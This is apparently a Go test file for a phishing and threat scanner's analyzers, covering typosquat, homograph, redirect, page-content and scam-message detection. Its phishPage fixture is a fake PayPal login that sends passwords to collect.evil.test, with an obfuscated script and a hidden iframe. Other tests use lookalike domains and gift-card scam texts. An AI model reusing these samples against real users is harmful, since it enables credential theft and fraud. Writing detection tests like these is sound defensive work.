package analyzers

import (
	"context"
	"errors"
	"net/http"
	"net/url"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Elara-Tanmoy/elara-mvp-final-sub011/internal/policy"
	"github.com/Elara-Tanmoy/elara-mvp-final-sub011/internal/probes"
	"github.com/Elara-Tanmoy/elara-mvp-final-sub011/internal/scanner"
	"github.com/Elara-Tanmoy/elara-mvp-final-sub011/internal/scoring"
	"github.com/Elara-Tanmoy/elara-mvp-final-sub011/internal/threatintel"
)

var testNow = time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)

type fakeRDAP struct {
	age int
	err error
}

func (f fakeRDAP) Lookup(_ context.Context, domain string) (*probes.Registration, error) {
	if f.err != nil {
		return nil, f.err
	}
	return &probes.Registration{Domain: domain, Registered: testNow.AddDate(0, 0, -f.age)}, nil
}

type fakeDNS struct {
	rec *probes.Records
	err error
}

func (f fakeDNS) Resolve(_ context.Context, host, _ string) (*probes.Records, error) {
	if f.err != nil {
		return nil, f.err
	}
	rec := *f.rec
	rec.Host = host
	return &rec, nil
}

type fakeTLS struct {
	cert *probes.Certificate
	err  error
}

func (f fakeTLS) Probe(context.Context, string, string) (*probes.Certificate, error) {
	return f.cert, f.err
}

type fetchFunc func(ctx context.Context, rawURL string) (*probes.Page, error)

func (f fetchFunc) Fetch(ctx context.Context, rawURL string) (*probes.Page, error) { return f(ctx, rawURL) }

// blocking waits for the caller's deadline like an unreachable host.
type blocking struct{}

func (blocking) Fetch(ctx context.Context, _ string) (*probes.Page, error) {
	<-ctx.Done()
	return nil, ctx.Err()
}

func (blocking) Probe(ctx context.Context, _, _ string) (*probes.Certificate, error) {
	<-ctx.Done()
	return nil, ctx.Err()
}

func (blocking) Resolve(ctx context.Context, _, _ string) (*probes.Records, error) {
	<-ctx.Done()
	return nil, ctx.Err()
}

func (blocking) Lookup(ctx context.Context, _ string) (*probes.Registration, error) {
	<-ctx.Done()
	return nil, ctx.Err()
}

func defaultPolicy(t *testing.T) *policy.Policy {
	t.Helper()
	p, err := policy.Default()
	require.NoError(t, err)
	return p
}

func urlArtifact(t *testing.T, raw string) *scanner.Artifact {
	t.Helper()
	a, err := scanner.NewURLArtifact(raw)
	require.NoError(t, err)
	return a
}

func analyze(t *testing.T, an scanner.Analyzer, a *scanner.Artifact) *scanner.CategoryResult {
	t.Helper()
	require.True(t, an.Accepts(a), "%s should accept %s", an.Category(), a.Raw)
	res, err := an.Analyze(context.Background(), a)
	require.NoError(t, err)
	require.Equal(t, an.Category(), res.Category)
	require.Equal(t, an.MaxScore(), res.MaxScore)
	return res
}

func page(t *testing.T, final string, body string, header http.Header, hops ...probes.Hop) fetchFunc {
	t.Helper()
	u, err := url.Parse(final)
	require.NoError(t, err)
	if header == nil {
		header = http.Header{}
	}
	return func(context.Context, string) (*probes.Page, error) {
		return &probes.Page{FinalURL: u, StatusCode: 200, Header: header, Body: []byte(body), Redirects: hops}, nil
	}
}

func newEngine(t *testing.T, p *policy.Policy, deps Deps, opts scanner.Options) *scanner.Engine {
	t.Helper()
	gate, list, err := Build(p, deps, Options{})
	require.NoError(t, err)
	reg := scanner.NewRegistry()
	require.NoError(t, reg.Replace(gate, list))
	classifier, err := p.Classifier()
	require.NoError(t, err)
	engine, err := scanner.NewEngine(reg, classifier, opts)
	require.NoError(t, err)
	return engine
}

func TestTyposquatOverPlainHTTPIsCritical(t *testing.T) {
	p := defaultPolicy(t)
	engine := newEngine(t, p, Deps{
		Threats: threatintel.NewIndex(),
		RDAP:    fakeRDAP{age: 2},
		DNS:     fakeDNS{rec: &probes.Records{Addresses: []string{"203.0.113.5"}, NameServers: []string{"ns1.host.test"}}},
		Fetcher: fetchFunc(func(context.Context, string) (*probes.Page, error) { return nil, errors.New("refused") }),
		TLS:     fakeTLS{err: errors.New("unused")},
		Now:     func() time.Time { return testNow },
	}, scanner.Options{})

	res, err := engine.Scan(context.Background(), urlArtifact(t, "http://paypa1-secure-login.xyz"))
	require.NoError(t, err)
	assert.Equal(t, scoring.LevelCritical, res.RiskLevel)
	assert.Equal(t, scoring.ScaleAbsolute, res.Scale)
	assert.False(t, res.ShortCircuited)

	for category, want := range map[string]int{
		CategoryTLDReputation: 15,
		CategoryBrand:         30,
		CategoryTransport:     20,
		CategoryDomainAge:     25,
	} {
		got, ok := res.Category(category)
		require.True(t, ok, category)
		assert.Equal(t, want, got.Score, category)
	}
	content, ok := res.Category(CategoryPageContent)
	require.True(t, ok)
	assert.True(t, content.Degraded)
	assert.Zero(t, content.Score)
}

func TestUnreachableDomainLeansSafe(t *testing.T) {
	p := defaultPolicy(t)
	engine := newEngine(t, p, Deps{
		Threats: threatintel.NewIndex(),
		RDAP:    blocking{},
		DNS:     blocking{},
		Fetcher: blocking{},
		TLS:     blocking{},
		Now:     func() time.Time { return testNow },
	}, scanner.Options{AnalyzerTimeout: 50 * time.Millisecond, BatchTimeout: 2 * time.Second})

	start := time.Now()
	res, err := engine.Scan(context.Background(), urlArtifact(t, "https://quiet-garden.com"))
	require.NoError(t, err)
	assert.Less(t, time.Since(start), 2*time.Second)
	assert.LessOrEqual(t, res.RiskLevel.Rank(), scoring.LevelLow.Rank())

	timedOut := map[string]bool{}
	for _, f := range res.Failures {
		if f.Reason == scanner.FailureTimeout {
			timedOut[f.Category] = true
		}
	}
	for _, c := range []string{CategoryPageContent, CategorySecurityHeaders, CategoryRedirectChain, CategoryTransport, CategoryDomainAge, CategoryDNSRecords} {
		assert.True(t, timedOut[c], "%s should time out", c)
		_, collected := res.Category(c)
		assert.False(t, collected, c)
	}
	_, ok := res.Category(CategoryTLDReputation)
	assert.True(t, ok)
}

func TestThreatIntelGateShortCircuits(t *testing.T) {
	p := defaultPolicy(t)
	idx := threatintel.NewIndex()
	idx.Add(threatintel.Indicator{Type: threatintel.TypeDomain, Value: "bad.test", Severity: scanner.SeverityHigh, Source: "feed"})
	engine := newEngine(t, p, Deps{Threats: idx, RDAP: blocking{}, Fetcher: blocking{}}, scanner.Options{})

	res, err := engine.Scan(context.Background(), urlArtifact(t, "https://www.bad.test/login"))
	require.NoError(t, err)
	assert.True(t, res.ShortCircuited)
	assert.Equal(t, scoring.ScaleGate, res.Scale)
	assert.Equal(t, 40, res.TotalScore)
	assert.Equal(t, 50, res.MaxScore)
	assert.Equal(t, scoring.LevelHigh, res.RiskLevel)
	require.Len(t, res.Categories, 1)
}

func TestThreatIntelPoints(t *testing.T) {
	for sev, want := range map[scanner.Severity]int{
		scanner.SeverityCritical: 50, scanner.SeverityHigh: 40, scanner.SeverityMedium: 25, scanner.SeverityLow: 10,
	} {
		idx := threatintel.NewIndex()
		idx.Add(threatintel.Indicator{Type: threatintel.TypeDomain, Value: "bad.test", Severity: sev, Source: "s"})
		res := analyze(t, NewThreatIntel(idx), urlArtifact(t, "bad.test"))
		assert.Equal(t, want, res.Score, sev)
	}
	clean := analyze(t, NewThreatIntel(threatintel.NewIndex()), urlArtifact(t, "good.test"))
	assert.Zero(t, clean.Score)
}

func TestDomainAgeBands(t *testing.T) {
	a := urlArtifact(t, "https://example.com")
	for age, want := range map[int]int{1: 25, 20: 15, 60: 8, 200: 0, 900: 0} {
		res := analyze(t, NewDomainAge(fakeRDAP{age: age}, func() time.Time { return testNow }), a)
		assert.Equal(t, want, res.Score, "age %d", age)
	}
	res := analyze(t, NewDomainAge(fakeRDAP{age: 900}, func() time.Time { return testNow }), a)
	assert.Equal(t, "established domain", res.Findings[0].Message)

	res = analyze(t, NewDomainAge(fakeRDAP{err: probes.ErrNoRegistration}, nil), a)
	assert.True(t, res.Degraded)
	assert.Zero(t, res.Score)

	assert.False(t, NewDomainAge(fakeRDAP{}, nil).Accepts(urlArtifact(t, "http://10.0.0.1")))
}

func TestIPHost(t *testing.T) {
	res := analyze(t, NewIPHost(), urlArtifact(t, "http://192.168.1.10/login"))
	assert.Equal(t, 20, res.Score)
	res = analyze(t, NewIPHost(), urlArtifact(t, "http://[2001:db8::1]/"))
	assert.Equal(t, 15, res.Score)
	res = analyze(t, NewIPHost(), urlArtifact(t, "https://example.com"))
	assert.Zero(t, res.Score)
	assert.Equal(t, scanner.StatusPass, res.Status)
}

func TestBrandImpersonation(t *testing.T) {
	an := NewBrandImpersonation(defaultPolicy(t))
	assert.Zero(t, analyze(t, an, urlArtifact(t, "https://www.paypal.com/signin")).Score)
	assert.Equal(t, 25, analyze(t, an, urlArtifact(t, "https://paypal-support.example.net")).Score)
	assert.Equal(t, 30, analyze(t, an, urlArtifact(t, "https://arnazon.shop")).Score)
	assert.Zero(t, analyze(t, an, urlArtifact(t, "https://weather.example.org")).Score)
}

func TestBrandImpersonationIgnoresOrdinaryWords(t *testing.T) {
	an := NewBrandImpersonation(defaultPolicy(t))
	for _, raw := range []string{"https://purchase.com", "https://pineapple.com", "https://appleton.edu"} {
		assert.Zero(t, analyze(t, an, urlArtifact(t, raw)).Score, raw)
	}
	assert.Equal(t, 25, analyze(t, an, urlArtifact(t, "https://apple-id-verify.com")).Score)
	assert.Equal(t, 25, analyze(t, an, urlArtifact(t, "https://chase.account-review.net")).Score)
	assert.Equal(t, 25, analyze(t, an, urlArtifact(t, "https://paypalsecure-login.com")).Score)
	assert.Zero(t, analyze(t, an, urlArtifact(t, "https://mypaypalx.com")).Score)
}

func TestContainsWordDecodesRunes(t *testing.T) {
	assert.True(t, containsWord("act now: urgent", "urgent"))
	assert.True(t, containsWord("«urgent» notice", "urgent"))
	assert.False(t, containsWord("éurgent notice", "urgent"))
	assert.False(t, containsWord("notice urgentß", "urgent"))
	assert.False(t, containsWord("urgently", "urgent"))
}

func TestTLDReputation(t *testing.T) {
	an := NewTLDReputation(defaultPolicy(t))
	assert.Equal(t, 15, analyze(t, an, urlArtifact(t, "free-prizes.tk")).Score)
	assert.Zero(t, analyze(t, an, urlArtifact(t, "example.org")).Score)
}

func TestTransportSecurity(t *testing.T) {
	now := func() time.Time { return testNow }
	good := &probes.Certificate{Valid: true, NotBefore: testNow.AddDate(0, -3, 0), NotAfter: testNow.AddDate(0, 3, 0), Version: "TLS 1.3"}
	res := analyze(t, NewTransportSecurity(fakeTLS{cert: good}, now), urlArtifact(t, "https://example.com"))
	assert.Zero(t, res.Score)

	selfSigned := *good
	selfSigned.Valid, selfSigned.SelfSigned = false, true
	selfSigned.NotBefore = testNow.AddDate(0, 0, -1)
	res = analyze(t, NewTransportSecurity(fakeTLS{cert: &selfSigned}, now), urlArtifact(t, "https://example.com"))
	assert.Equal(t, 25, res.Score)
	assert.Equal(t, scanner.StatusFail, res.Status)

	res = analyze(t, NewTransportSecurity(fakeTLS{err: errors.New("reset")}, now), urlArtifact(t, "https://example.com"))
	assert.True(t, res.Degraded)

	res = analyze(t, NewTransportSecurity(nil, now), urlArtifact(t, "http://example.com"))
	assert.Equal(t, 20, res.Score)
}

func TestURLPattern(t *testing.T) {
	an := NewURLPattern(defaultPolicy(t))
	res := analyze(t, an, urlArtifact(t, "http://paypal.com.account-update.xyz/paypal/signin/verify"))
	messages := map[string]bool{}
	for _, f := range res.Findings {
		messages[f.Message] = true
	}
	assert.True(t, messages["subdomain imitates a domain suffix"])
	assert.True(t, messages["phishing keywords in URL"])
	assert.Equal(t, 30, res.Score)

	res = analyze(t, an, urlArtifact(t, "https://user@example.com:8443/"))
	assert.Equal(t, 15, res.Score)
	assert.Zero(t, analyze(t, an, urlArtifact(t, "https://example.com/about")).Score)
}

func TestHostingReputation(t *testing.T) {
	an := NewHostingReputation(defaultPolicy(t))
	assert.Equal(t, 25, analyze(t, an, urlArtifact(t, "https://netflix-billing.weebly.com")).Score)
	assert.Equal(t, 5, analyze(t, an, urlArtifact(t, "https://bit.ly/abc")).Score)
	assert.Zero(t, analyze(t, an, urlArtifact(t, "https://example.com")).Score)
}

func TestIDNHomograph(t *testing.T) {
	an := NewIDNHomograph(defaultPolicy(t))
	res := analyze(t, an, urlArtifact(t, "https://pаypal.com/"))
	assert.Equal(t, 20, res.Score)
	assert.Equal(t, scanner.SeverityCritical, res.MaxSeverity())
	assert.Zero(t, analyze(t, an, urlArtifact(t, "https://paypal.com/")).Score)
}

func TestDNSRecords(t *testing.T) {
	a := urlArtifact(t, "https://example.com")
	res := analyze(t, NewDNSRecords(fakeDNS{rec: &probes.Records{NXDomain: true}}), a)
	assert.Equal(t, 10, res.Score)
	full := &probes.Records{Addresses: []string{"93.184.216.34"}, MailServers: []string{"mx.example.com"}, NameServers: []string{"a.iana-servers.net"}}
	assert.Zero(t, analyze(t, NewDNSRecords(fakeDNS{rec: full}), a).Score)
	res = analyze(t, NewDNSRecords(fakeDNS{err: errors.New("servfail")}), a)
	assert.True(t, res.Degraded)
}

const phishPage = `<html><head><title>PayPal - Log In</title>
<script>eval(unescape("%61%6c%65%72%74"))</script>
<script>var s = String.fromCharCode(104, 105);</script></head>
<body>
<iframe src="https://tracker.other.test/x" width="0" height="0"></iframe>
<form action="https://collect.evil.test/post"><input type="password" name="pw"></form>
</body></html>`

func TestPageContent(t *testing.T) {
	p := defaultPolicy(t)
	res := analyze(t, NewPageContent(p, page(t, "https://login.example.test/", phishPage, nil)), urlArtifact(t, "https://login.example.test/"))
	messages := map[string]bool{}
	for _, f := range res.Findings {
		messages[f.Message] = true
	}
	assert.True(t, messages["password form posts to another domain"])
	assert.True(t, messages["invisible iframe"])
	assert.True(t, messages["obfuscated script"])
	assert.Equal(t, 40, res.Score)

	failing := fetchFunc(func(context.Context, string) (*probes.Page, error) { return nil, errors.New("timeout") })
	res = analyze(t, NewPageContent(p, failing), urlArtifact(t, "https://example.com"))
	assert.True(t, res.Degraded)
	assert.Zero(t, res.Score)
	assert.Contains(t, res.Findings[0].Message, "could not analyze")
}

func TestSecurityHeaders(t *testing.T) {
	a := urlArtifact(t, "https://example.com")
	res := analyze(t, NewSecurityHeaders(page(t, "https://example.com/", "", nil)), a)
	assert.Equal(t, 10, res.Score)

	hardened := http.Header{}
	hardened.Set("Strict-Transport-Security", "max-age=63072000")
	hardened.Set("Content-Security-Policy", "default-src 'self'; frame-ancestors 'none'")
	assert.Zero(t, analyze(t, NewSecurityHeaders(page(t, "https://example.com/", "", hardened)), a).Score)
}

func TestRedirectChain(t *testing.T) {
	p := defaultPolicy(t)
	hops := []probes.Hop{
		{URL: "https://bit.ly/x", Status: 301},
		{URL: "https://a.test/1", Status: 302},
		{URL: "https://b.test/2", Status: 302},
		{URL: "https://c.test/3", Status: 302},
	}
	res := analyze(t, NewRedirectChain(p, page(t, "http://landing.evil.test/", "", nil, hops...)), urlArtifact(t, "https://bit.ly/x"))
	assert.Equal(t, 15, res.Score)

	res = analyze(t, NewRedirectChain(p, page(t, "https://example.com/", "", nil)), urlArtifact(t, "https://example.com"))
	assert.Zero(t, res.Score)
}

func textArtifact(t *testing.T, text string) *scanner.Artifact {
	t.Helper()
	a, err := scanner.NewFileArtifact("message.txt", "text/plain", []byte(text))
	require.NoError(t, err)
	a.Text = text
	a.TextConfidence = 1
	a.Conversation = ptr(scanner.LineParser{}.Parse(text))
	return a
}

func ptr[T any](v T) *T { return &v }

func TestSocialEngineering(t *testing.T) {
	an := NewSocialEngineering(defaultPolicy(t))
	res := analyze(t, an, textArtifact(t, "URGENT: verify your account within 24 hours or pay the outstanding payment by wire transfer."))
	assert.Equal(t, 30, res.Score)
	res = analyze(t, an, textArtifact(t, "Lunch at noon tomorrow?"))
	assert.Zero(t, res.Score)
	assert.False(t, an.Accepts(urlArtifact(t, "https://example.com")))
}

func TestConversationPatterns(t *testing.T) {
	an := NewConversationPatterns(defaultPolicy(t))
	chat := textArtifact(t, "Alex: hi mom, I lost my phone, this is my new number\nMom: oh no!\nAlex: can you buy an itunes card for me? scratch the back and send a photo")
	res := analyze(t, an, chat)
	assert.Equal(t, 25, res.Score)
	assert.Equal(t, scanner.StatusFail, res.Status)

	single := textArtifact(t, "just one line of text")
	assert.False(t, an.Accepts(single))
}

func fileArtifact(t *testing.T, name, mime string, data []byte) *scanner.Artifact {
	t.Helper()
	a, err := scanner.NewFileArtifact(name, mime, data)
	require.NoError(t, err)
	return a
}

func TestFileCharacteristics(t *testing.T) {
	an := NewFileCharacteristics(defaultPolicy(t))
	exe := append([]byte("MZ"), make([]byte, 200)...)

	res := analyze(t, an, fileArtifact(t, "Invoice.pdf.exe", "application/octet-stream", exe))
	assert.Equal(t, 25, res.Score)
	assert.Equal(t, scanner.SeverityCritical, res.MaxSeverity())

	res = analyze(t, an, fileArtifact(t, "report.pdf", "application/pdf", exe))
	assert.Equal(t, scanner.SeverityCritical, res.MaxSeverity())
	assert.GreaterOrEqual(t, res.Score, 20)

	res = analyze(t, an, fileArtifact(t, "notes.txt", "text/plain", []byte("hello there, plain notes")))
	assert.Zero(t, res.Score)

	assert.False(t, an.Accepts(urlArtifact(t, "https://example.com")))
}

func TestBuild(t *testing.T) {
	p := defaultPolicy(t)
	gate, list, err := Build(p, Deps{}, Options{})
	require.NoError(t, err)
	assert.Nil(t, gate)
	names := map[string]bool{}
	for _, a := range list {
		names[a.Category()] = true
	}
	assert.False(t, names[CategoryDomainAge])
	assert.False(t, names[CategoryPageContent])
	assert.True(t, names[CategoryBrand])

	gate, list, err = Build(p, Deps{Threats: threatintel.NewIndex()}, Options{
		Enabled:    []string{CategoryThreatIntel, CategoryTLDReputation},
		RateLimits: map[string]RateLimit{CategoryTLDReputation: {PerSecond: 5}},
	})
	require.NoError(t, err)
	require.NotNil(t, gate)
	require.Len(t, list, 1)
	assert.Equal(t, CategoryTLDReputation, list[0].Category())
	_, isPlain := list[0].(*TLDReputation)
	assert.False(t, isPlain, "rate limited analyzer should be wrapped")

	_, _, err = Build(p, Deps{}, Options{Enabled: []string{"nope"}})
	assert.Error(t, err)
	_, _, err = Build(nil, Deps{}, Options{})
	assert.Error(t, err)
}
